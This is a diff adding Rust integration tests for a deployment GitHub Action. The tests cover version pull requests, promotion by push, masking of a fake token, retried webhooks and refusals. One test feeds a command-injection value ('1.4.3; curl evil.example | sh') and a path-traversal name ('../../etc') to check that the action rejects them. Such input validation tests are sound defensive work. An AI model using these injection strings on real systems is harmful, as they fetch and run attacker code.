@@ -333,3 +333,173 @@ async fn promote_opens_a_pull_request_whose_body_is_the_plan() {
     );
     assert!(!repo.path().join("services/api/production/version").exists());
 }
+
+/// Runs the action in a shallow clone of `origin`'s main, on `event`.
+async fn action(
+    gh: &FakeGitHub,
+    origin: &Repo,
+    event: &str,
+    payload: &serde_json::Value,
+    inputs: &[(&str, &str)],
+) -> (u8, String, String, String) {
+    let work = crate::util::shallow_clone(origin, "main");
+    let runner = tempfile::tempdir().expect("temp");
+    let path = |name: &str| runner.path().join(name).display().to_string();
+    std::fs::write(path("event.json"), payload.to_string()).expect("event");
+    let mut vars: Vec<(String, String)> = vec![
+        ("GITHUB_EVENT_NAME".into(), event.into()),
+        ("GITHUB_EVENT_PATH".into(), path("event.json")),
+        ("GITHUB_WORKSPACE".into(), work.path().display().to_string()),
+        ("GITHUB_API_URL".into(), gh.url.clone()),
+        ("GITHUB_REPOSITORY".into(), REPO.into()),
+        ("GITHUB_REF".into(), "refs/heads/main".into()),
+        ("GITHUB_STEP_SUMMARY".into(), path("summary.md")),
+        ("GITHUB_OUTPUT".into(), path("output")),
+        ("RUNNER_TEMP".into(), runner.path().display().to_string()),
+        (
+            "INPUT_GITHUB-TOKEN".into(),
+            "ghs_publishcanary0123456789".into(),
+        ),
+    ];
+    vars.extend(
+        inputs
+            .iter()
+            .map(|(k, v)| ((*k).to_string(), (*v).to_string())),
+    );
+    let env = kdeploy::action::ActionEnv::from_vars(vars);
+    let mut log = Vec::new();
+    let retry = kdeploy::github::RetryPolicy {
+        attempts: 2,
+        base: std::time::Duration::from_millis(10),
+        max_wait: std::time::Duration::from_secs(1),
+    };
+    let code = match kdeploy::action::run(&env, retry, &mut log).await {
+        Ok(c) => c,
+        Err(e) => {
+            log.extend(format!("error: {e:#}").into_bytes());
+            255
+        }
+    };
+    let read = |name: &str| std::fs::read_to_string(path(name)).unwrap_or_default();
+    (
+        code,
+        String::from_utf8_lossy(&log).into_owned(),
+        read("summary.md"),
+        read("output"),
+    )
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_action_turns_a_dispatch_into_a_version_pull_request() {
+    let gh = FakeGitHub::start().await;
+    let origin = Repo::with_app();
+    origin.commit("apps");
+    pushed(&gh, &origin);
+    let payload = serde_json::json!({
+        "action": "set-version", "branch": "main",
+        "client_payload": {"app": "api", "env": "staging", "version": "1.4.2"},
+        "repository": {"full_name": REPO},
+    });
+    let images = [("INPUT_MODE", "images")];
+    let (code, log, summary, outputs) =
+        action(&gh, &origin, "repository_dispatch", &payload, &images).await;
+    assert_eq!(code, 0, "{log}");
+    assert!(
+        log.contains("propose api staging 1.0.0 → 1.4.2 (set by hand)"),
+        "{log}"
+    );
+    assert!(log.contains("opened pull request #1"), "{log}");
+    assert!(
+        summary.contains("| api | staging | `1.0.0` | `1.4.2` | set by hand |"),
+        "{summary}"
+    );
+    assert!(
+        summary.contains(&format!("opened [#1](https://github.com/{REPO}/pull/1)")),
+        "{summary}"
+    );
+    assert!(outputs.contains(r#""outcome":"opened""#), "{outputs}");
+    assert!(
+        outputs.contains(&format!("https://github.com/{REPO}/pull/1")),
+        "{outputs}"
+    );
+    assert_eq!(gh.pulls().len(), 1);
+    // The token shows only in the runner's own mask command.
+    let shown: String = format!("{log}{summary}{outputs}")
+        .lines()
+        .filter(|l| !l.starts_with("::add-mask::"))
+        .collect();
+    assert!(!shown.contains("publishcanary"), "{shown}");
+
+    // The same dispatch again (a retried webhook): no duplicate.
+    let (code, log, _, _) = action(&gh, &origin, "repository_dispatch", &payload, &images).await;
+    assert_eq!(code, 0, "{log}");
+    assert!(log.contains("already proposes this"), "{log}");
+    assert_eq!(gh.pulls().len(), 1);
+
+    // A version that is no image tag is refused before anything is written.
+    let mut bad = payload.clone();
+    bad["client_payload"]["version"] = serde_json::json!("1.4.3; curl evil.example | sh");
+    let (code, log, _, _) = action(&gh, &origin, "repository_dispatch", &bad, &images).await;
+    assert_ne!(code, 0);
+    assert!(log.contains("is not a valid image tag"), "{log}");
+    let mut unknown = payload.clone();
+    unknown["client_payload"]["app"] = serde_json::json!("../../etc");
+    let (_, log, _, _) = action(&gh, &origin, "repository_dispatch", &unknown, &images).await;
+    assert!(
+        log.contains("there is no release ../../etc/staging"),
+        "{log}"
+    );
+    assert_eq!(gh.pulls().len(), 1);
+
+    // On a pull request the mode refuses to write.
+    let pr = serde_json::json!({"action": "opened", "number": 3, "pull_request": {"number": 3,
+        "base": {"ref": "main", "sha": "x", "repo": {"full_name": REPO}},
+        "head": {"ref": "x", "sha": "y", "repo": {"full_name": REPO}}}});
+    let (code, log, _, _) = action(&gh, &origin, "pull_request", &pr, &images).await;
+    assert_ne!(code, 0);
+    assert!(log.contains("not on pull requests"), "{log}");
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn the_action_promotes_by_workflow_dispatch_with_a_push() {
+    let gh = FakeGitHub::start().await;
+    let origin = Repo::with_app();
+    origin.write("services/api/staging/version", "1.1.0\n");
+    origin.commit("staging runs 1.1.0");
+    let main = pushed(&gh, &origin);
+    let payload = serde_json::json!({"inputs": {"from": "staging", "to": "production"}, "ref": "refs/heads/main"});
+    let (code, log, summary, outputs) = action(
+        &gh,
+        &origin,
+        "workflow_dispatch",
+        &payload,
+        &[("INPUT_MODE", "promote"), ("INPUT_PUBLISH", "push")],
+    )
+    .await;
+    assert_eq!(code, 0, "{log}");
+    let tip = gh.branch("main").expect("main");
+    assert_ne!(tip, main);
+    assert_eq!(
+        gh.files_at(&tip)["services/api/production/version"],
+        "1.1.0\n"
+    );
+    assert!(outputs.contains(&tip), "{outputs}");
+    assert!(summary.contains("starts no other workflow"), "{summary}");
+    assert!(gh.pulls().is_empty());
+
+    // Nothing left to promote: a notice, no commit.
+    let (code, log, ..) = action(
+        &gh,
+        &origin,
+        "workflow_dispatch",
+        &payload,
+        &[
+            ("INPUT_MODE", "promote"),
+            ("INPUT_PROMOTE-FROM", "production"),
+            ("INPUT_PROMOTE-TO", "production"),
+        ],
+    )
+    .await;
+    assert_ne!(code, 0);
+    assert!(log.contains("nothing to promote"), "{log}");
+}
